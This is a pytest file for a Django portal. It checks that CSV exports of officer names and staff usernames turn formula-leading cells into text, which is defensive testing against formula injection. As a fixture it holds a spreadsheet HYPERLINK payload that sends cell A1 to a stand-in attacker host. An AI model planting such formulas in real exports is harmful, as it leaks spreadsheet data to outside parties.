"""No CSV the portal writes can carry a spreadsheet formula: an officer's name or a staff member's
username that starts with =, +, -, @ comes out as text."""

import re
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from portal.csv_cells import csv_cell
from review_board.services.cases import case_assign
from tests.factories import OfficerFactory, UserFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("value", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_starts_become_text(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Smith", "", None, -5, 3.5, "2024-01-02", "O'Brien"])
def test_other_values_are_untouched(value):
    assert csv_cell(value) == value


def test_the_public_officers_download_neutralises_formulas(journalist, agency):
    OfficerFactory(agency=agency, last_name=FORMULA, first_name="@Jane")
    body = b"".join(journalist.get("/data/officers.csv").streaming_content).decode()
    assert "'=HYPERLINK" in body and "'@Jane" in body
    assert not re.search(r'(^|,)"?=HYPERLINK', body, re.MULTILINE)


def test_the_staff_case_export_neutralises_formulas(client_for, case, intake_officer):
    from portal.roles import Role

    mallory = UserFactory(username="-mallory", roles=[Role.INVESTIGATOR])
    case_assign(case=case, actor=intake_officer, investigator=mallory)
    response = client_for(intake_officer).get(reverse("board:case_export"))
    body = b"".join(response.streaming_content).decode()
    assert ",'-mallory," in body


def test_every_csv_writer_goes_through_the_one_helper():
    root = Path(settings.BASE_DIR)
    apps = [folder.parent for folder in root.glob("*/apps.py")]
    assert len(apps) >= 4
    writers = [str(path.relative_to(root)) for app in apps for path in app.rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())]
    assert writers == ["portal/csv_cells.py"]
